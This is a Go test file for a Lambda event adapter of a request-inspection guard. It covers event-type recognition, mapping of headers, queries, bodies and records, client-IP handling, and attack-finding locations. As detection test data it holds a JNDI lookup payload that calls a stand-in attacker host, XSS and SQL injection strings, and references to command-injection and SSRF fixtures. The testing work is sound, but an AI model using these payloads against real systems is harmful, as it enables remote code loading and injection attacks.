package guardlambda

import (
	"context"
	"encoding/json"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/fnguard/fnguard/guard"
	"github.com/fnguard/fnguard/guard/jsontree"
	"github.com/fnguard/fnguard/middleware/internal/httpguard"
)

// mapPayload runs the adapter's mapping on payload, as Invoke does.
func mapPayload(t *testing.T, g *guard.Guard, payload []byte) (*state, *rejection) {
	t.Helper()
	doc, err := jsontree.Parse(payload, envelopeLimits)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	st := new(state)
	st.root = doc.Root()
	st.kind = recognize(st.root, &st.env)
	return st, anyRejection(st, st.mapEvent(lambdaCtx("req-map"), g, payload))
}

func mapFixture(t *testing.T, g *guard.Guard, name string) *state {
	t.Helper()
	st, rej := mapPayload(t, g, fixture(t, name))
	if rej != nil {
		t.Fatalf("%s: unexpected rejection %+v", name, rej)
	}
	return st
}

func TestRecognize(t *testing.T) {
	tests := []struct {
		fixture string
		want    kind
		source  guard.Source
	}{
		{"apigw_v1_benign.json", kindRESTv1, guard.SourceAPIGatewayREST},
		{"apigw_v2_benign.json", kindHTTPv2, guard.SourceAPIGatewayHTTP},
		{"function_url_benign.json", kindFunctionURL, guard.SourceFunctionURL},
		{"alb_multi_benign.json", kindALB, guard.SourceALB},
		{"alb_jndi_useragent.json", kindALB, guard.SourceALB},
		{"sqs_batch_clean.json", kindSQS, guard.SourceSQS},
		{"sns_benign.json", kindSNS, guard.SourceSNS},
		{"s3_benign.json", kindS3, guard.SourceS3},
		{"dynamodb_batch.json", kindDynamoDB, guard.SourceDynamoDB},
		{"kinesis_batch.json", kindKinesis, guard.SourceKinesis},
		{"eventbridge_benign.json", kindEventBridge, guard.SourceEventBridge},
		{"unknown_benign.json", kindUnknown, guard.SourceLambdaUnknown},
	}
	for _, tt := range tests {
		t.Run(tt.fixture, func(t *testing.T) {
			doc, err := jsontree.Parse(fixture(t, tt.fixture), envelopeLimits)
			if err != nil {
				t.Fatal(err)
			}
			if got := recognize(doc.Root(), new(envelope)); got != tt.want || got.source() != tt.source {
				t.Fatalf("recognize = %d (%s), want %d (%s)", got, got.source(), tt.want, tt.source)
			}
		})
	}
	for _, raw := range []string{`[]`, `"x"`, `{"Records":[]}`, `{"Records":[{"eventSource":"aws:sqs"},{"eventSource":"aws:sns"}]}`,
		`{"Records":[{"eventSource":"aws:kafka"}]}`, `{"httpMethod":"GET"}`, `{"detail-type":"x","source":"y"}`,
		`{"Records":[null]}`, `{"Records":[5,{"eventSource":5}]}`, `{"Records":[{"eventSource":"aws:sqs"},{}]}`,
		`{"version":"2.0","requestContext":null}`, `{"version":"1.0","requestContext":{"http":{}}}`,
		`{"detail-type":null,"source":"y","detail":{}}`} {
		t.Run(raw, func(t *testing.T) {
			doc, err := jsontree.Parse([]byte(raw), envelopeLimits)
			if err != nil {
				t.Fatal(err)
			}
			if got := recognize(doc.Root(), new(envelope)); got != kindUnknown {
				t.Fatalf("recognize(%s) = %d, want unknown", raw, got)
			}
		})
	}
}

func params(ps []guard.Param) []string {
	out := make([]string, len(ps))
	for i, p := range ps {
		out[i] = p.Name + "=" + p.Value
	}
	return out
}

func wantParams(t *testing.T, what string, got []guard.Param, want ...string) {
	t.Helper()
	if g := params(got); !slices.Equal(g, want) {
		t.Errorf("%s = %q, want %q", what, g, want)
	}
}

func TestMapRESTv1(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "apigw_v1_benign.json")
	inv := &st.inv
	if inv.Source != guard.SourceAPIGatewayREST || inv.Method != "POST" || inv.Route != "/orders/{id}" || inv.Path != "/orders/1234" {
		t.Errorf("source/method/route/path = %s %s %s %s", inv.Source, inv.Method, inv.Route, inv.Path)
	}
	if inv.RequestID != "req-map" || !strings.HasPrefix(inv.TraceID, "Root=1-65a1b2c3-") {
		t.Errorf("request id %q, trace id %q", inv.RequestID, inv.TraceID)
	}
	wantParams(t, "headers", inv.Headers,
		"accept=application/json", "content-type=application/json", "host=abc123.execute-api.eu-west-1.amazonaws.com",
		"user-agent=Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "cookie=session=9f2c1e; theme=dark",
		"x-amzn-trace-id=Root=1-65a1b2c3-0123456789abcdef01234567", "x-forwarded-for=198.51.100.23, 130.176.1.7", "x-forwarded-proto=https")
	// multiValueQueryStringParameters is complete; the single-value map
	// holds the last values and adds nothing.
	wantParams(t, "query", inv.Query, "expand=lines", "expand=items", "lang=en")
	wantParams(t, "cookies", inv.Cookies, "session=9f2c1e", "theme=dark")
	wantParams(t, "pathParameters", inv.PathParams, "id=1234")
	if inv.ContentType != "application/json" {
		t.Errorf("content type %q", inv.ContentType)
	}
	var body map[string]any
	if err := json.Unmarshal(inv.Body, &body); err != nil || body["customer"] != "Siobhan O'Brien" {
		t.Errorf("body %q: %v", inv.Body, err)
	}
	if inv.ClientIP != netip.MustParseAddr("198.51.100.23") {
		t.Errorf("client IP %v", inv.ClientIP)
	}
	p := inv.Principal
	if p == nil || p.ID != "user-42" || p.Claims["iss"] == "" || !slices.Equal(p.Scopes, []string{"orders/read", "orders/write"}) {
		t.Errorf("principal %+v", p)
	}
	wantParams(t, "attrs", inv.Attrs, "apigateway.request_id=c6af9ac6-7b61-11e6-9a41-93e8deadbeef")
}

func TestMapRESTv1SingleValueDiffers(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "apigw_v1_single_differs.json")
	wantParams(t, "query", st.inv.Query, "expand=lines", "expand=items", "lang=en", "lang=<script>alert(1)</script>")
}

func TestMapRESTv1Base64Body(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "apigw_v1_b64_jndi_body.json")
	if !st.bodyB64 || !strings.Contains(string(st.inv.Body), `"note": "${jndi:ldap://evil.example/a}"`) {
		t.Fatalf("body not decoded: %q", st.inv.Body)
	}
}

func TestMapHTTPv2(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "apigw_v2_benign.json")
	inv := &st.inv
	if inv.Source != guard.SourceAPIGatewayHTTP || inv.Method != "GET" || inv.Route != "GET /products" || inv.Path != "/products" {
		t.Errorf("source/method/route/path = %s %s %s %s", inv.Source, inv.Method, inv.Route, inv.Path)
	}
	// rawQueryString is decoded ('+' is a space) and complete; the
	// comma-joined queryStringParameters agree with it and add nothing.
	wantParams(t, "query", inv.Query, "q=blue shoes", "tag=sale", "tag=new")
	wantParams(t, "cookies", inv.Cookies, "session=4f9a2b", "theme=light")
	if inv.ClientIP != netip.MustParseAddr("203.0.113.9") {
		t.Errorf("client IP %v", inv.ClientIP)
	}
	if p := inv.Principal; p == nil || p.ID != "abc-123" || p.Claims["aud"] != "shop" || !slices.Equal(p.Scopes, []string{"products/read"}) {
		t.Errorf("principal %+v", p)
	}
	if len(inv.Body) != 0 || st.body.Exists() {
		t.Errorf("body %q", inv.Body)
	}

	st = mapFixture(t, g, "apigw_v2_sqli_rawquery.json")
	wantParams(t, "query", st.inv.Query, "q=blue shoes", "tag=sale", "tag=' OR 1=1--")
}

func TestMapFunctionURL(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "function_url_benign.json")
	inv := &st.inv
	if inv.Source != guard.SourceFunctionURL || inv.Route != "" || inv.Path != "/reports/2024/summary.pdf" || len(inv.Query) != 0 {
		t.Errorf("source/route/path/query = %s %q %q %v", inv.Source, inv.Route, inv.Path, inv.Query)
	}
	if p := inv.Principal; p == nil || p.ID != "arn:aws:sts::123456789012:assumed-role/reader/alice" || p.Claims["accountId"] != "123456789012" {
		t.Errorf("principal %+v", p)
	}
	if inv.ClientIP != netip.MustParseAddr("192.0.2.44") {
		t.Errorf("client IP %v", inv.ClientIP)
	}
}

func TestMapALB(t *testing.T) {
	tests := []struct {
		hops int
		want string
	}{
		{0, "invalid IP"},
		{1, "203.0.113.50"}, // the address the ALB saw
		{2, "10.9.8.7"},     // one trusted proxy in front of the ALB
		{5, "10.9.8.7"},     // fewer entries than hops: the leftmost
	}
	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			g, _ := testGuard(t, guard.WithTrustedHops(tt.hops))
			st := mapFixture(t, g, "alb_multi_benign.json")
			if got := st.inv.ClientIP.String(); got != tt.want {
				t.Errorf("hops %d: client IP %s, want %s", tt.hops, got, tt.want)
			}
			if !st.albMulti || st.inv.Source != guard.SourceALB || st.inv.Route != "" {
				t.Errorf("albMulti %v source %s route %q", st.albMulti, st.inv.Source, st.inv.Route)
			}
			// ALB passes query strings on undecoded.
			wantParams(t, "query", st.inv.Query, "q=red lamp", "page=2")
		})
	}
	g, _ := testGuard(t)
	st := mapFixture(t, g, "alb_jndi_useragent.json")
	if st.albMulti || st.inv.ClientIP != netip.MustParseAddr("203.0.113.51") {
		t.Errorf("single-value ALB: albMulti %v client %v", st.albMulti, st.inv.ClientIP)
	}
}

func TestForwardedFor(t *testing.T) {
	h := func(vs ...string) []guard.Param {
		var ps []guard.Param
		for _, v := range vs {
			ps = append(ps, guard.Param{Name: "x-forwarded-for", Value: v})
		}
		return ps
	}
	tests := []struct {
		name    string
		headers []guard.Param
		hops    int
		want    string
	}{
		{"single", h("198.51.100.1"), 1, "198.51.100.1"},
		{"spoofed left entry ignored", h("1.2.3.4, 198.51.100.1"), 1, "198.51.100.1"},
		{"multi-value header", h("1.2.3.4", "10.0.0.1, 198.51.100.1"), 2, "10.0.0.1"},
		{"ipv6 mapped", h("::ffff:198.51.100.1"), 1, "198.51.100.1"},
		{"with port", h("198.51.100.1:443"), 1, "198.51.100.1"},
		{"garbage", h("not-an-ip"), 1, "invalid IP"},
		{"none", nil, 1, "invalid IP"},
		{"zero hops", h("198.51.100.1"), 0, "invalid IP"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := guard.ClientAddrFromHeaders(tt.headers, "x-forwarded-for", tt.hops).String(); got != tt.want {
				t.Errorf("forwardedFor = %s, want %s", got, tt.want)
			}
		})
	}
}

func TestMapSQS(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "sqs_batch_clean.json")
	if n := len(st.inv.Records); n != 10 || len(st.recVals) != 10 {
		t.Fatalf("%d records", n)
	}
	r := st.inv.Records[3]
	if r.ID != "msg-3" || r.EventSource != "arn:aws:sqs:eu-west-1:123456789012:orders" || !strings.Contains(string(r.Body), `"order": 1003`) {
		t.Errorf("record 3: %+v", r)
	}
	if len(r.Fields) != 1 || r.Fields[0].Loc != "messageAttributes.kind.stringValue" || r.Fields[0].Value != "order" {
		t.Errorf("record 3 fields %+v", r.Fields)
	}
}

func TestMapSNS(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "sns_benign.json")
	r := st.inv.Records[0]
	m := r.SNS
	if m == nil || m.MessageID != "95df01b4-ee98-5cb9-9903-4c221d41eb5e" || m.TopicARN != "arn:aws:sns:eu-west-1:123456789012:orders" ||
		m.Type != "Notification" || m.Subject != "Order placed" || m.SignatureVersion != "1" || m.Signature != "dGVzdA==" ||
		!strings.HasPrefix(m.SigningCertURL, "https://sns.eu-west-1.amazonaws.com/") || m.Timestamp == "" || m.Message != `{"order": 7, "status": "paid"}` {
		t.Fatalf("SNS message %+v", m)
	}
	if r.ID != m.MessageID || r.EventSource != m.TopicARN || r.EventType != "Notification" {
		t.Errorf("record %+v", r)
	}
	var locs []string
	for _, f := range r.Fields {
		locs = append(locs, f.Loc)
		if f.Loc == "Sns.Message" && !f.JSON {
			t.Errorf("JSON message not marked JSON")
		}
	}
	if want := []string{"Sns.Message", "Sns.Subject", "Sns.MessageAttributes.priority.Value"}; !slices.Equal(locs, want) {
		t.Errorf("fields %q, want %q", locs, want)
	}
}

func TestMapSNSBinaryAttributes(t *testing.T) {
	g, _ := testGuard(t)
	payload := `{"Records":[{"EventSource":"aws:sns","Sns":{"Type":"Notification","MessageId":"m","TopicArn":"t","Message":"hi",` +
		`"MessageAttributes":{"b64":{"Type":"Binary","Value":"PHNjcmlwdD4="},"raw":{"Type":"Binary","Value":"not base64!"},` +
		`"bin":{"Type":"Binary","Value":"AAH/"}}}}]}`
	st, rej := mapPayload(t, g, []byte(payload))
	if rej != nil {
		t.Fatalf("rejection %+v", rej)
	}
	got := map[string]string{}
	for _, f := range st.inv.Records[0].Fields {
		got[f.Loc] = f.Value
	}
	want := map[string]string{
		"Sns.Message":                     "hi",
		"Sns.MessageAttributes.b64.Value": "<script>",    // decoded
		"Sns.MessageAttributes.raw.Value": "not base64!", // as sent
	}
	if len(got) != len(want) {
		t.Errorf("fields %q, want %q", got, want)
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s = %q, want %q", k, got[k], v)
		}
	}
}

func TestMapS3(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "s3_benign.json")
	r := st.inv.Records[0]
	if r.EventSource != "arn:aws:s3:::uploads-bucket" || r.EventType != "ObjectCreated:Put" || r.ID != "C3D13FE58DE4C810" {
		t.Errorf("record %+v", r)
	}
	if len(r.Fields) < 1 || r.Fields[0].Loc != "s3.object.key" || r.Fields[0].Value != "photos/Happy Face.jpg" {
		t.Errorf("fields %+v", r.Fields)
	}
}

func TestMapDynamoDB(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "dynamodb_batch.json")
	if len(st.inv.Records) != 4 {
		t.Fatalf("%d records", len(st.inv.Records))
	}
	r := st.inv.Records[2]
	if r.ID != "111000000002" || r.EventType != "INSERT" || !strings.HasPrefix(r.EventSource, "arn:aws:dynamodb:") {
		t.Errorf("record %+v", r)
	}
	got := map[string]string{}
	for _, f := range r.Fields {
		got[f.Loc] = f.Value
	}
	if v := got["dynamodb.NewImage.doc.M.parts.L[1].B"]; v != "<script>alert(1)</script>" {
		t.Errorf("decoded B value = %q (fields %q)", v, got)
	}
	if !strings.Contains(got["dynamodb.NewImage"], `"parts"`) || !strings.Contains(got["dynamodb.Keys"], `"item-2"`) {
		t.Errorf("image fields %q", got)
	}
	// Binary that is not text is not handed over as a string.
	for _, f := range st.inv.Records[3].Fields {
		if strings.HasSuffix(f.Loc, ".B") {
			t.Errorf("non-UTF-8 binary handed over at %s", f.Loc)
		}
	}
}

func TestMapKinesis(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "kinesis_batch.json")
	r := st.inv.Records[1]
	if !strings.HasSuffix(r.ID, "1") || r.EventSource != "arn:aws:kinesis:eu-west-1:123456789012:stream/clicks" {
		t.Errorf("record %+v", r)
	}
	if r.Fields[0].Loc != "kinesis.data" || !r.Fields[0].JSON || !strings.Contains(r.Fields[0].Value, "<script>") {
		t.Errorf("data field %+v", r.Fields[0])
	}
	if f := st.inv.Records[2].Fields[0]; f.Value != "plain text click" || f.JSON {
		t.Errorf("text data field %+v", f)
	}
}

func TestMapEventBridge(t *testing.T) {
	g, _ := testGuard(t)
	st := mapFixture(t, g, "eventbridge_benign.json")
	if len(st.inv.Records) != 1 {
		t.Fatalf("%d records", len(st.inv.Records))
	}
	r := st.inv.Records[0]
	if r.EventSource != "com.example.orders" || r.EventType != "OrderPlaced" || r.ID != "6a7e8feb-b491-4cf7-a9f1-bf3703467718" {
		t.Errorf("record %+v", r)
	}
	var locs []string
	for _, f := range r.Fields {
		locs = append(locs, f.Loc)
	}
	if want := []string{"source", "detail-type", "detail", "resources[0]"}; !slices.Equal(locs, want) {
		t.Errorf("fields %q, want %q", locs, want)
	}
	wantParams(t, "attrs", st.inv.Attrs, "aws.account_id=123456789012", "aws.region=eu-west-1")
}

func TestMapRejections(t *testing.T) {
	tests := []struct {
		name    string
		payload string
		rule    string
		loc     string
	}{
		{"headers not an object", `{"httpMethod":"GET","requestContext":{},"headers":"x"}`, "validation.event_shape", "headers"},
		{"header value not a string", `{"httpMethod":"GET","requestContext":{},"headers":{"X-A":5}}`, "validation.event_shape", `headers["X-A"]`},
		{"multi header not strings", `{"httpMethod":"GET","requestContext":{},"multiValueHeaders":{"X-A":[1]}}`, "validation.event_shape", `multiValueHeaders["X-A"][0]`},
		{"body a number", `{"httpMethod":"GET","requestContext":{},"body":5}`, "validation.event_shape", "body"},
		{"isBase64Encoded a string", `{"httpMethod":"GET","requestContext":{},"body":"aGk=","isBase64Encoded":"yes"}`, "validation.event_shape", "isBase64Encoded"},
		{"invalid base64 body", `{"httpMethod":"GET","requestContext":{},"body":"%%%","isBase64Encoded":true}`, "validation.invalid_base64", "body"},
		{"v2 cookies not strings", `{"version":"2.0","requestContext":{"http":{}},"cookies":[1]}`, "validation.event_shape", "cookies[0]"},
		{"sqs body not a string", `{"Records":[{"eventSource":"aws:sqs","body":{}}]}`, "validation.event_shape", "Records[0].body"},
		{"sqs bad binary attribute", `{"Records":[{"eventSource":"aws:sqs","body":"x","messageAttributes":{"a":{"binaryValue":"!!"}}}]}`, "validation.invalid_base64", "Records[0].messageAttributes.a.binaryValue"},
		{"kinesis bad data", `{"Records":[{"eventSource":"aws:kinesis","kinesis":{"data":"@@@"}}]}`, "validation.invalid_base64", "Records[0].kinesis.data"},
		{"dynamodb bad binary", `{"Records":[{"eventSource":"aws:dynamodb","dynamodb":{"NewImage":{"x":{"B":"@@"}}}}]}`, "validation.invalid_base64", "Records[0].dynamodb.NewImage.x.B"},
		{"s3 bad key encoding", string(fixture(t, "s3_bad_key_encoding.json")), "validation.invalid_encoding", "Records[0].s3.object.key"},
		{"sns Sns not an object", `{"Records":[{"EventSource":"aws:sns","Sns":5}]}`, "validation.event_shape", "Records[0].Sns"},
		{"eventbridge resources not strings", `{"detail-type":"a","source":"b","detail":{},"resources":[1]}`, "validation.event_shape", "resources[0]"},
	}
	g, _ := testGuard(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, rej := mapPayload(t, g, []byte(tt.payload))
			if rej == nil {
				t.Fatal("no rejection")
			}
			if rej.rule != tt.rule || rej.loc != tt.loc || rej.status != 400 || !strings.HasPrefix(rej.reason, tt.loc+":") {
				t.Errorf("rejection %+v, want rule %s at %s", rej, tt.rule, tt.loc)
			}
		})
	}
}

func TestDynamoDepthLimit(t *testing.T) {
	g, _ := testGuard(t)
	var b strings.Builder
	b.WriteString(`{"Records":[{"eventSource":"aws:dynamodb","dynamodb":{"NewImage":{"x":`)
	for range maxDynamoDepth + 1 {
		b.WriteString(`{"L":[`)
	}
	b.WriteString(`{"B":"aGk="}`)
	for range maxDynamoDepth + 1 {
		b.WriteString(`]}`)
	}
	b.WriteString(`}}}]}`)
	_, rej := mapPayload(t, g, []byte(b.String()))
	if rej == nil || rej.rule != "validation.dynamodb_depth" || !strings.HasPrefix(rej.loc, "Records[0].dynamodb.NewImage.x.L[0]") {
		t.Fatalf("rejection %+v", rej)
	}
}

// TestFindingLocations runs the real inspection and checks where each attack
// is reported.
func TestFindingLocations(t *testing.T) {
	tests := []struct {
		fixture  string
		category guard.Category
		location string
		record   int
	}{
		{"apigw_v1_sqli_query.json", guard.SQLi, "query.q", -1},
		{"apigw_v1_xss_body.json", guard.XSS, "body.items[1].comment", -1},
		{"apigw_v1_b64_jndi_body.json", guard.JNDI, "body.items[0].note", -1},
		{"apigw_v1_traversal_path.json", guard.PathTraversal, "pathParameters.id", -1},
		{"apigw_v1_cmdi_multiheader.json", guard.CmdI, "headers.x-debug", -1},
		{"apigw_v1_sqli_cookie.json", guard.SQLi, "cookies.theme", -1},
		{"apigw_v1_single_differs.json", guard.XSS, "query.lang", -1},
		{"apigw_v2_sqli_rawquery.json", guard.SQLi, "query.tag", -1},
		{"apigw_v2_xss_cookie.json", guard.XSS, "cookies.prefs", -1},
		{"apigw_v2_ssrf_body.json", guard.SSRF, "body.image", -1},
		{"function_url_traversal.json", guard.PathTraversal, "path", -1},
		{"alb_multi_sqli_encoded_query.json", guard.SQLi, "query.q", -1},
		{"alb_jndi_useragent.json", guard.JNDI, "headers.user-agent", -1},
		{"sqs_batch_poisoned.json", guard.SQLi, "records[2].body.customer", 2},
		{"sqs_attribute_attack.json", guard.XSS, "records[0].messageAttributes.kind.stringValue", 0},
		{"sqs_fifo_id_attack.json", guard.SQLi, "records[1].attributes.MessageGroupId", 1},
		{"sqs_fifo_id_attack.json", guard.CmdI, "records[2].attributes.MessageDeduplicationId", 2},
		{"sns_ssrf_message.json", guard.SSRF, "records[0].Sns.Message.callback", 0},
		{"s3_cmdi_key.json", guard.CmdI, "records[0].s3.object.key", 0},
		{"dynamodb_batch.json", guard.SQLi, "records[1].dynamodb.NewImage.note.S", 1},
		{"dynamodb_batch.json", guard.XSS, "records[2].dynamodb.NewImage.doc.M.parts.L[1].B", 2},
		{"kinesis_batch.json", guard.XSS, "records[1].kinesis.data.ref", 1},
		{"eventbridge_jndi_detail.json", guard.JNDI, "records[0].detail.customer.name", 0},
		{"unknown_cmdi.json", guard.CmdI, "event.args.file", -1},
	}
	g, _ := testGuard(t)
	w := WrapHandler(g, nil).(*handler)
	for _, tt := range tests {
		t.Run(tt.fixture+"/"+tt.location, func(t *testing.T) {
			st := getState()
			defer st.release(false)
			d := w.inspect(lambdaCtx("req-loc"), st, fixture(t, tt.fixture))
			if d.Action != guard.ActionBlock {
				t.Errorf("action %s, want block (reason %q)", d.Action, d.Reason)
			}
			for _, f := range d.Findings {
				if f.Location == tt.location && f.Category == tt.category && f.Record == tt.record {
					return
				}
			}
			t.Errorf("no %s finding at %s (record %d); findings: %+v", tt.category, tt.location, tt.record, d.Findings)
		})
	}
}

// TestBenignFixturesAllowed: the benign events carry no finding at all.
func TestBenignFixturesAllowed(t *testing.T) {
	g, _ := testGuard(t)
	w := WrapHandler(g, nil).(*handler)
	for _, name := range []string{"apigw_v1_benign.json", "apigw_v1_1kb.json", "apigw_v2_benign.json", "function_url_benign.json",
		"alb_multi_benign.json", "sqs_batch_clean.json", "sns_benign.json", "s3_benign.json", "eventbridge_benign.json", "unknown_benign.json"} {
		t.Run(name, func(t *testing.T) {
			st := getState()
			defer st.release(false)
			d := w.inspect(context.Background(), st, fixture(t, name))
			if d.Action != guard.ActionAllow || len(d.Findings) != 0 {
				t.Errorf("action %s, findings %+v", d.Action, d.Findings)
			}
		})
	}
}

// TestAWSFixtures maps every event of aws-lambda-go's own test data: the
// shapes AWS documents must be recognised and mapped without a rejection.
func TestAWSFixtures(t *testing.T) {
	out, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "github.com/aws/aws-lambda-go").Output()
	dir := strings.TrimSpace(string(out))
	if err != nil || dir == "" {
		t.Skipf("aws-lambda-go module directory not found: %v", err)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "events", "testdata", "*.json"))
	if len(files) == 0 {
		t.Skip("no aws-lambda-go test data")
	}
	want := map[string]guard.Source{
		"apigw-request.json":                                guard.SourceAPIGatewayREST,
		"apigw-v2-request-jwt-authorizer.json":              guard.SourceAPIGatewayHTTP,
		"apigw-v2-request-iam.json":                         guard.SourceAPIGatewayHTTP,
		"apigw-v2-request-lambda-authorizer.json":           guard.SourceAPIGatewayHTTP,
		"lambda-urls-request.json":                          guard.SourceFunctionURL,
		"alb-lambda-target-request-headers-only.json":       guard.SourceALB,
		"alb-lambda-target-request-multivalue-headers.json": guard.SourceALB,
		"sqs-event.json":                                    guard.SourceSQS,
		"sns-event.json":                                    guard.SourceSNS,
		"s3-event.json":                                     guard.SourceS3,
		"dynamodb-event.json":                               guard.SourceDynamoDB,
		"kinesis-event.json":                                guard.SourceKinesis,
		"cloudwatch-logs-event.json":                        guard.SourceCloudWatchLogs,
	}
	g, _ := testGuard(t)
	seen := 0
	for _, f := range files {
		name := filepath.Base(f)
		t.Run(name, func(t *testing.T) {
			b, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			doc, err := jsontree.Parse(b, envelopeLimits)
			if err != nil {
				t.Skipf("not one valid JSON document: %v", err) // e.g. dynamodb-event-malformed
			}
			st := new(state)
			st.root = doc.Root()
			st.kind = recognize(st.root, &st.env)
			if rej := st.mapEvent(context.Background(), g, b); rej != nil {
				t.Fatalf("rejected: %+v", rej)
			}
			if src, ok := want[name]; ok {
				seen++
				if st.inv.Source != src {
					t.Errorf("source %s, want %s", st.inv.Source, src)
				}
			}
		})
	}
	if seen != len(want) {
		t.Errorf("checked %d of the %d expected fixtures", seen, len(want))
	}
}

// TestMapAcceptsWhatDecodes: members that aws-lambda-go decodes although
// AWS never sends them so (null records and entities, null array elements)
// are not refused, and []byte members in either form encoding/json accepts
// (base64 or an array of byte values) are inspected.
func TestMapAcceptsWhatDecodes(t *testing.T) {
	g, _ := testGuard(t)
	for _, raw := range []string{
		`{"Records":[{"EventSource":"aws:sns","Sns":null}]}`,
		`{"Records":[{"EventSource":"aws:sns"}]}`,
		`{"Records":[{"eventSource":"aws:s3","s3":null}]}`,
		`{"Records":[{"eventSource":"aws:kinesis","kinesis":null}]}`,
		`{"Records":[{"eventSource":"aws:dynamodb","dynamodb":null}]}`,
		`{"Records":[{"eventSource":"aws:sqs","body":"x"},null]}`,
		`{"version":"2.0","requestContext":{"http":{}},"cookies":[null,"a=b"]}`,
		`{"detail-type":"a","source":"b","detail":{},"resources":[null,"arn:aws:s3:::b"],"account":null}`,
		`{"httpMethod":"GET","requestContext":{"elb":{}},"pathParameters":5}`,
	} {
		t.Run(raw, func(t *testing.T) {
			k, rej := verdict(t, g, []byte(raw))
			if k == kindUnknown || rej != nil {
				t.Fatalf("kind %s, rejection %+v", k.source(), rej)
			}
			if err := decodeAs(k, []byte(raw)); err != nil {
				t.Fatalf("%s does not decode it either: %v", eventTypes[k], err)
			}
		})
	}

	st, rej := mapPayload(t, g, []byte(`{"Records":[{"eventSource":"aws:sqs","messageId":"m","body":"","messageAttributes":{
		"a":{"dataType":"Binary","binaryValue":[60,115,99,114,105,112,116,62]},
		"b":{"dataType":"Binary","binaryListValues":["PGI+","",[104,105]]}}}]}`))
	if rej != nil {
		t.Fatalf("rejection %+v", rej)
	}
	var got []string
	for _, f := range st.inv.Records[0].Fields {
		got = append(got, f.Loc+"="+f.Value)
	}
	want := []string{"messageAttributes.a.binaryValue=<script>", "messageAttributes.b.binaryListValues[0]=<b>", "messageAttributes.b.binaryListValues[2]=hi"}
	if !slices.Equal(got, want) {
		t.Errorf("fields %q, want %q", got, want)
	}
	st, rej = mapPayload(t, g, []byte(`{"Records":[{"eventSource":"aws:kinesis","kinesis":{"data":[123,125]}}]}`))
	if rej != nil || len(st.inv.Records[0].Fields) != 1 || st.inv.Records[0].Fields[0].Value != "{}" || !st.inv.Records[0].Fields[0].JSON {
		t.Errorf("kinesis byte-array data: rejection %+v, fields %+v", rej, st.inv.Records)
	}
	_, rej = mapPayload(t, g, []byte(`{"Records":[{"eventSource":"aws:sqs","messageAttributes":{"b":{"binaryListValues":["!!"]}}}]}`))
	if rej == nil || rej.rule != "validation.invalid_base64" || rej.loc != "Records[0].messageAttributes.b.binaryListValues[0]" {
		t.Errorf("bad base64 in binaryListValues: %+v", rej)
	}
}

// TestClientIPSameAsNetHTTP: one client-address derivation for every
// adapter. The same X-Forwarded-For values and hop count give the same
// client through an ALB event and through net/http (they used to differ
// when the list held empty entries).
func TestClientIPSameAsNetHTTP(t *testing.T) {
	for _, tc := range []struct {
		xff  []string
		hops int
		want string
	}{
		{[]string{"203.0.113.9, 10.0.0.2"}, 1, "10.0.0.2"},
		{[]string{"203.0.113.9, 10.0.0.2"}, 2, "203.0.113.9"},
		{[]string{"203.0.113.9, , 10.0.0.2"}, 2, "203.0.113.9"},
		{[]string{"198.51.100.4,", " 203.0.113.9:5123", "10.0.0.2"}, 2, "203.0.113.9"},
		{[]string{"[2001:db8::7]:443, 10.0.0.2"}, 5, "2001:db8::7"},
		{[]string{"unknown, 10.0.0.2"}, 2, "invalid IP"},
	} {
		t.Run(strings.Join(tc.xff, "|")+"/"+strconv.Itoa(tc.hops), func(t *testing.T) {
			g, _ := testGuard(t, guard.WithTrustedHops(tc.hops))
			mv, _ := json.Marshal(map[string]any{
				"requestContext":    map[string]any{"elb": map[string]any{"targetGroupArn": "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/0123456789abcdef"}},
				"httpMethod":        "GET",
				"path":              "/orders",
				"multiValueHeaders": map[string]any{"x-forwarded-for": tc.xff, "host": []string{"shop.example.com"}},
				"body":              "",
				"isBase64Encoded":   false,
			})
			st, rej := mapPayload(t, g, mv)
			if rej != nil {
				t.Fatalf("rejected: %+v", rej)
			}
			r := httptest.NewRequest("GET", "/orders", nil)
			r.Header["X-Forwarded-For"] = tc.xff
			viaHTTP := httpguard.ClientIP(r, "X-Forwarded-For", tc.hops)
			if got := st.inv.ClientIP.String(); got != tc.want || viaHTTP.String() != tc.want {
				t.Fatalf("ALB %s, net/http %s, want %s", got, viaHTTP, tc.want)
			}
		})
	}
}
